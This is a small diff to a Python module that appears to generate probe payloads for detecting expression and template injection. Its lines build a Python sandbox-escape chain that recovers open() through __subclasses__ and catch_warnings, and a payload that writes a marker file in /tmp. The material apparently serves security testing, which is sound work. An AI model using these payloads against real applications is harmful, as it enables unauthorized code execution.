@@ -14,10 +14,10 @@ HINT = ""
 
 
 def want(surface: Surface, tokens: Tokens) -> Wanted:
-    """Expressions, statements and templates."""
+    """Want expressions, statements and templates."""
     sum_ = f"'%d' % ({tokens.a}*{tokens.b})"
     write = f"open('/tmp/{tokens.mark}.{{N}}','w').write({sum_})"
-    # what is left where builtins were taken away: any class leads to all others
+    # these work without builtins, because any class leads to all others
     class_ = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]"
     hidden = f"{class_}()._module.__builtins__['open']{write.removeprefix('open')}"
     template = f"{tokens.a}*{tokens.b}"
